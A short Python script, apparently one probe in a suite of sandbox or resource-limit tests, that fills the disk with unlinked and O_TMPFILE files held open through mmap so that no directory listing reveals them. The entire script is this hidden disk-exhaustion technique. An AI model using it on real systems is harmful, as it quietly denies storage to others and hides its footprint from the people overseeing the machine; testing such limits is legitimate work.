# Attack: fills the disk with files that have no name, which no look at the folder finds.
# Kind: resources
# Costs: own

import mmap
import os
import time

held = []


def fill(make):
    written = 0
    for number in range(12):
        try:
            place = make(f"gone{number}")
            written += os.write(place, bytes(15 * 2**20))
            held.append(mmap.mmap(place, 4096))  # holds the file when its descriptor is closed
            os.close(place)
        except OSError:
            break
        time.sleep(0.1)
    return written


def removed(name):
    place = os.open(name, os.O_RDWR | os.O_CREAT)
    os.unlink(name)
    return place


written = fill(removed) + fill(lambda _: os.open(".", os.O_RDWR | os.O_TMPFILE))
if written > 100 * 2**20:
    through(f"put {written >> 20} MB into files without a name")
held.clear()
